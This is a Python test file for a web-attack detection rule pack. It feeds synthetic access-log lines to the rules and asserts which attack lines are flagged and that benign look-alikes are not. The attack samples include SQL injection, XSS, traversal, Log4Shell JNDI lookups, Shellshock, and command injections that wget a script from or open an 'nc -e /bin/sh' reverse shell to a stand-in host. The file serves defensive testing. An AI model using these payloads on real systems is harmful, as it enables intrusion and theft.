"""The built-in web rule pack on realistic access-log lines, through the real pipeline.

Each rule gets one table-driven case: attack lines from one client and
benign look-alikes from another are imported together as an nginx/apache
combined log, and the test asserts exactly which lines the rule flagged and
that an alert names the attacker address. Payload catch rates and the benign
real log (../shared/data/web) bound misses and false positives; the 404
flood correlation is checked over and under its threshold.
"""

from __future__ import annotations

import urllib.parse
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path

from tests.rules.helpers import T0, RuleEnv

DATA = Path(__file__).resolve().parents[3] / "shared" / "data" / "web"
ATTACKER = "203.0.113.66"
BROWSER = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
)
FLOOD_ID = "8a0c2e46-5d7f-4b9a-b3e5-4f6a8c0e2a13"


def access_line(
    ip: str,
    offset_s: float,
    target: str,
    status: int = 200,
    ua: str = BROWSER,
    referrer: str = "-",
    method: str = "GET",
) -> str:
    """One combined-format line as nginx/apache write it (target logged raw)."""
    stamp = (T0 + timedelta(seconds=offset_s)).strftime("%d/%b/%Y:%H:%M:%S +0000")
    return f'{ip} - - [{stamp}] "{method} {target} HTTP/1.1" {status} 1234 "{referrer}" "{ua}"'


@dataclass
class Req:
    """A request: target plus the fields some rules look at."""

    target: str
    status: int = 200
    ua: str = BROWSER
    referrer: str = "-"


@dataclass
class Case:
    """A rule's positive and negative requests."""

    title: str
    rule_id: str
    positive: list[Req]
    negative: list[Req] = field(default_factory=list)


def reqs(*targets: str, status: int = 200) -> list[Req]:
    return [Req(t, status) for t in targets]


CASES = [
    Case(
        "SQL Injection Keywords In Request",
        "6b1d5e2a-4c1f-4f0e-9a51-0b7f0c7e5a01",
        reqs(
            "/item.php?id=1%20UNION%20ALL%20SELECT%20NULL,NULL,version()--",
            "/item.php?id=1+union+select+1,2,3",
            "/item.php?id=1/**/UnIoN/**/SeLeCt/**/1,2",
            "/login?user=admin%27%20or%20%271%27%3D%271&pass=x",
            "/login?user=admin'--&pass=x",
            "/item.php?id=1%20AND%201=1",
            "/item.php?id=1%20ORDER%20BY%2021--%20",
            "/item.php?id=1)%20or%20sleep(5)%23",
            "/item.php?id=1;DROP%20TABLE%20users",
            "/item.php?id=%27%3B%20exec%20master..xp_cmdshell%20%27ping%2010.0.0.1%27--",
            "/item.php?id=(SELECT%20*%20FROM%20(SELECT(SLEEP(5)))ecMj)",
        ),
        reqs(
            "/search?q=rock+and+roll&page=2",
            "/search?q=black+or+white+shoes",
            "/products?sort=price&order=asc",
            "/blog/union-square-select-hotels",
            "/search?q=O%27Reilly+books",
            "/api/items?fields=id,name&limit=10",
            "/select/options?orderBy=date",
        ),
    ),
    Case(
        "Cross-Site Scripting Attempt",
        "4e8d2f1a-6b3c-4d7e-a9f0-1c2b3d4e5f04",
        reqs(
            "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "/search?q=<svg/onload=alert(1)>",
            "/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dprompt(1)%3E",
            "/search?q=%253Cscript%253Ealert(document.domain)%253C%252Fscript%253E",
            "/redirect?url=javascript:alert(1)",
            "/search?q=%27%20onmouseover%3D%27confirm%601%60",
        ),
        reqs(
            "/search?q=onload+event+handler+tutorial",
            "/docs/javascript-guide.html",
            "/search?q=script+writing+class",
            "/images/online-banner.png",
            "/search?q=a%3Cb+math",
        ),
    ),
    Case(
        "Path Traversal Or Local File Inclusion Attempt",
        "1f3e7c55-8a2d-4a0b-b1c4-2d6e9b7f3a02",
        reqs(
            "/download?file=../../../../etc/passwd",
            "/download?file=..%2F..%2F..%2Fetc%2Fpasswd",
            "/download?file=%2e%2e%2f%2e%2e%2fetc%2fshadow",
            "/download?file=..%252f..%252f..%252fetc%252fpasswd",
            "/static/..%c0%af..%c0%afwindows/win.ini",
            "/download?file=....//....//etc/hosts",
            "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh",
        ),
        reqs(
            "/docs/v1.2/index.html",
            "/download?file=report..pdf",
            "/files/etc-passwords-policy.html",
            "/search?q=shadow+of+the+colossus",
        ),
    ),
    Case(
        "Local Or Remote File Inclusion Attempt",
        "3c5e8a21-7d4b-4f6e-9b2a-8e1f0d3c6a05",
        reqs(
            "/index.php?page=php://filter/convert.base64-encode/resource=index",
            "/index.php?page=php%3A%2F%2Finput",
            "/index.php?page=expect://id",
            "/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
            "/index.php?page=/var/log/apache2/access.log",
            "/index.php?page=%2Fproc%2Fself%2Fenviron",
            "/index.php?lang=../../../../etc/passwd%00",
            "/index.php?page=http://198.51.100.99/shell.txt?",
            "/index.php?file=C:%5Cwindows%5Csystem.ini",
        ),
        reqs(
            "/login?next=/account/settings",
            "/out?url=https%3A%2F%2Fexample.org%2Fnews%2F2026%2Fstory.html",
            "/share?u=http://example.com/page.php&title=x",
            "/docs/php-file-wrappers.html",
            "/misc/nmh//%22file://$file/%22",
        ),
    ),
    Case(
        "OS Command Injection Attempt",
        "8a4f2c6e-1b3d-4e5f-a7c9-2d4e6f8a0b06",
        [
            *reqs(
                "/ping.php?host=127.0.0.1;id",
                "/ping.php?host=127.0.0.1%7Ccat%20/etc/passwd",
                "/ping.php?host=127.0.0.1%26%26wget%20http://198.51.100.99/x.sh",
                "/ping.php?host=$(whoami)",
                "/ping.php?host=%60uname%20-a%60",
                "/ping.php?host=x%3Bnc%20-e%20/bin/sh%20198.51.100.99%204444",
                "/cgi-bin/test.cgi?x=1;/bin/bash%20-i",
                "/ping.php?host=127.0.0.1%0Asleep%205",
            ),
            Req("/cgi-bin/status", ua="() { :;}; /bin/bash -c 'cat /etc/passwd'"),
        ],
        reqs(
            "/products?cat=shoes&id=12",
            "/search?q=cat+food&sort=price",
            "/api/v1/users?fields=id;name",
            "/blog/using-wget-and-curl.html",
            "/search?q=ping+pong+tables",
        ),
    ),
    Case(
        "Server-Side Template Injection Attempt",
        "5d7b9e13-2f4a-4c6d-8e0b-3a5c7e9f1d07",
        reqs(
            "/hello?name={{7*7}}",
            "/hello?name=%7B%7B7*%277%27%7D%7D",
            "/hello?name=${7*7}",
            "/hello?name=%24%7B7%2A7%7D",
            "/hello?name=%3C%25%3D%207*7%20%25%3E",
            "/hello?name={{config.items()}}",
            "/hello?name={{%27%27.__class__.__mro__[1].__subclasses__()}}",
            "/hello?name=${T(java.lang.Runtime).getRuntime().exec(%27id%27)}",
        ),
        reqs(
            "/hello?name=Alice",
            "/calc?expr=7*7",
            "/docs/templates/jinja2-guide.html",
            "/search?q=%7Bjson%7D+format",
        ),
    ),
    Case(
        "Log4Shell JNDI Lookup In Request",
        "7e9c1a35-4b6d-4e8f-a0c2-5b7d9e1f3a08",
        [
            *reqs(
                "/?x=${jndi:ldap://198.51.100.99:1389/a}",
                "/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.99%2Fa%7D",
                "/?x=${${lower:j}ndi:${lower:l}dap://198.51.100.99/a}",
                "/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.99/a}",
            ),
            Req("/", ua="${jndi:dns://198.51.100.99/ua}"),
            Req("/", referrer="${jndi:ldaps://198.51.100.99/ref}"),
        ],
        [
            *reqs("/blog/log4j-patching-guide.html", "/search?q=jndi+lookup+docs"),
            Req("/", ua="Mozilla/5.0 (compatible; ${build} bot)"),
        ],
    ),
    Case(
        "Spring4Shell Class Loader Manipulation",
        "9b1d3f57-6c8e-4a0b-b2d4-7c9e1f3a5b09",
        reqs(
            "/app/greeting?class.module.classLoader.resources.context.parent.pipeline.first"
            ".pattern=%25%7Bc2%7Di",
            "/app/greeting?class.module.classLoader.resources.context.parent.pipeline.first"
            ".suffix=.jsp",
            "/app/greeting?class%2Emodule%2EclassLoader%2EURLs%5B0%5D=0",
            "/app/greeting?class%5Bmodule%5D%5BclassLoader%5D.resources=x",
        ),
        reqs(
            "/app/greeting?name=World",
            "/courses?class=math&module=3",
            "/docs/java/classloader.html",
        ),
    ),
    Case(
        "Known Webshell Accessed",
        "2a4c6e80-9d1f-4b3a-8c5e-0f2a4c6e8b10",
        [
            *reqs(
                "/uploads/c99.php",
                "/wp-content/uploads/2026/11/wso.php?a=FilesMan",
                "/images/r57.php",
                "/tomcatwar.jsp?pwd=j&cmd=whoami",
                "/admin/b374k/index.php",
                "/upload/x.aspx?cmd=dir",
            ),
            Req("/cmd.jsp?cmd=id", status=302),
        ],
        [
            *reqs("/uploads/c99.php", "/shell.php", "/tomcatwar.jsp?cmd=id", status=404),
            *reqs(
                "/help/shell-scripting.html",
                "/index.jsp?page=home",
                "/admin/run.aspx?command_list=1",
                "/articles/cmd.php-vs-shell.html",
            ),
        ],
    ),
    Case(
        "Sensitive File Or Endpoint Requested",
        "4c6e8a02-1f3b-4d5c-9e7a-1b3d5f7a9c11",
        [
            *reqs("/.env", "/app/.env.production", "/.git/config", "/.git/HEAD", status=404),
            *reqs(
                "/wp-config.php.bak",
                "/wp-config.php~",
                "/.htpasswd",
                "/.aws/credentials",
                "/backup.sql",
                "/.DS_Store",
                "/server-status",
                "/phpinfo.php",
                "/home/deploy/.ssh/id_rsa",
            ),
        ],
        reqs(
            "/wp-config.php",
            "/environment/settings",
            "/docs/git-config-guide.html",
            "/blog/backup-sql-databases.html",
            "/assets/app.env.js",
            "/server-status-page.html",
        ),
    ),
    Case(
        "Web Vulnerability Scanner User Agent",
        "9c2a4b7e-3d5f-4e61-8f0a-5b3c1d2e4f03",
        [
            Req("/", ua=ua)
            for ua in (
                "sqlmap/1.7.2#stable (https://sqlmap.org)",
                "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
                "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
                "Mozilla/5.0 zgrab/0.x",
                "gobuster/3.6",
                "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
                "Wfuzz/3.1.0",
                "Fuzz Faster U Fool v2.1.0-dev",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Nuclei - Open-source project "
                "(github.com/projectdiscovery/nuclei)",
                "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
                "Mozilla/5.0 (Windows NT 10.0) Acunetix-WVS",
                "Mozilla/5.0 (compatible; Nessus)",
                "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.4)",
                "Mozilla/4.0 (Hydra)",
            )
        ],
        [
            Req("/", ua=ua)
            for ua in (
                "curl/8.5.0",
                "Wget/1.21.4",
                "python-requests/2.31.0",
                "Go-http-client/1.1",
                BROWSER,
                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            )
        ],
    ),
]


def lines_of(requests: list[Req], ip: str, start: float) -> list[str]:
    return [
        access_line(ip, start + i, r.target, r.status, r.ua, r.referrer)
        for i, r in enumerate(requests)
    ]


def test_rules_flag_exactly_the_attacks(rule_env: RuleEnv) -> None:
    """All cases in one import: each rule flags all its attacks and no benign look-alike.

    Case k's attacks come from 203.0.113.(10+k), its look-alikes from
    198.51.100.(10+k); a look-alike must be flagged by no web rule at all, and
    each rule raises an alert naming its case's attacker with every attack counted.
    """
    lines: dict[str, tuple[list[str], list[str], str]] = {}
    for k, case in enumerate(CASES):
        attacker = f"203.0.113.{10 + k}"
        pos = lines_of(case.positive, attacker, k * 60)
        neg = lines_of(case.negative, f"198.51.100.{10 + k}", k * 60 + 30)
        lines[case.title] = (pos, neg, attacker)
    rule_env.ingest([ln for pos, neg, _ in lines.values() for ln in pos + neg])
    negatives = {ln for _, neg, _ in lines.values() for ln in neg}
    problems: dict[str, object] = {}
    for case in CASES:
        pos, _, attacker = lines[case.title]
        flagged = set(rule_env.flagged(case.title))
        missed = [ln for ln in pos if ln not in flagged]
        false = sorted(flagged & negatives)
        alerts = {a.entity_value: a.count for a in rule_env.alerts(case.rule_id)}
        if missed or false or alerts.get(attacker) != len(pos):
            problems[case.title] = {"missed": missed, "false": false, "alerts": alerts}
    assert problems == {}


def _payload_lines(name: str, every: int = 1) -> list[str]:
    """A client sending each payload as a form does (quote_plus: %XX and + for space)."""
    text = (DATA / "payloads" / name).read_text(errors="replace")
    payloads = [p for p in text.splitlines() if p.strip() and not p.startswith("#")][::every]
    return [
        access_line(ATTACKER, i * 0.01, "/item?id=" + urllib.parse.quote_plus(p))
        for i, p in enumerate(payloads)
    ]


# measured (quote_plus encoding): SQLi 0.94, XSS 0.86, traversal 0.97, LFI (either rule) 0.97,
# command injection 0.73; the floors leave a little room, not enough to hide a broken rule
PAYLOAD_FLOORS = [
    ("SQL_Injection.txt", ["SQL Injection Keywords In Request"], 0.9, 1),
    ("XSS_Injection.txt", ["Cross-Site Scripting Attempt"], 0.82, 1),
    ("Directory_Traversal.txt", ["Path Traversal Or Local File Inclusion Attempt"], 0.93, 10),
    (
        "File_Inclusion.txt",
        [
            "Local Or Remote File Inclusion Attempt",
            "Path Traversal Or Local File Inclusion Attempt",
        ],
        0.92,
        2,
    ),
    ("Command_Injection.txt", ["OS Command Injection Attempt"], 0.7, 1),
]


def test_payload_lists_are_mostly_caught(rule_env: RuleEnv) -> None:
    """Share of each public payload list caught, URL-encoded as a client sends it."""
    batches = {name: _payload_lines(name, every) for name, _, _, every in PAYLOAD_FLOORS}
    rule_env.ingest([ln for lines in batches.values() for ln in lines])
    for name, titles, floor, _ in PAYLOAD_FLOORS:
        caught = set().union(*(rule_env.flagged(t) for t in titles))
        share = sum(ln in caught for ln in batches[name]) / len(batches[name])
        assert share >= floor, (name, round(share, 3))


WEB_TITLES = [c.title for c in CASES]


def test_benign_real_log_stays_quiet(rule_env: RuleEnv) -> None:
    """10,000 real requests to a personal site: no web rule flags any (measured 0)."""
    lines = (DATA / "apache_logs_benign.log").read_text().splitlines()
    summary = rule_env.ingest(lines)
    assert summary["events"] >= len(lines) - 1  # one truncated line in the file
    counts = {t: len(rule_env.flagged(t)) for t in WEB_TITLES}
    assert {t: n for t, n in counts.items() if n} == {}
    # its 213 404s are spread over four days: no flood window
    assert rule_env.alerts(FLOOD_ID) == []


def test_404_flood_raises_one_alert_for_the_scanner(rule_env: RuleEnv) -> None:
    """60 misses in 30 s from one client fire once; the informational 404s alert nothing."""
    scanner = [
        access_line(ATTACKER, 5 + i * 0.5, f"/admin{i}.php", 404, "gobuster/3.6") for i in range(60)
    ]
    rule_env.ingest(scanner)
    alerts = rule_env.alerts(FLOOD_ID)
    assert [(a.entity_type, a.entity_value, a.count) for a in alerts] == [("ip", ATTACKER, 60)]
    # the 404 selector only feeds the correlation: no per-404 stream alert or flag
    assert rule_env.alerts("6e8a0c24-3b5d-4f7e-a1c3-2d4f6a8c0e12") == []
    assert rule_env.flagged("Web Not Found Response") == []


def test_404_normal_rate_does_not_flood(rule_env: RuleEnv) -> None:
    """Ten clients with a few broken links each, and one with 49 in a minute: below threshold."""
    lines = [
        access_line(f"198.51.100.{10 + c}", c * 7 + i * 11, f"/missing/{c}/{i}.png", 404)
        for c in range(10)
        for i in range(8)
    ]
    lines += [access_line("192.0.2.77", 120 + i, f"/old/page{i}.html", 404) for i in range(49)]
    lines += [access_line("192.0.2.77", 120 + i, "/index.html") for i in range(30)]
    rule_env.ingest(lines)
    assert rule_env.alerts(FLOOD_ID) == []
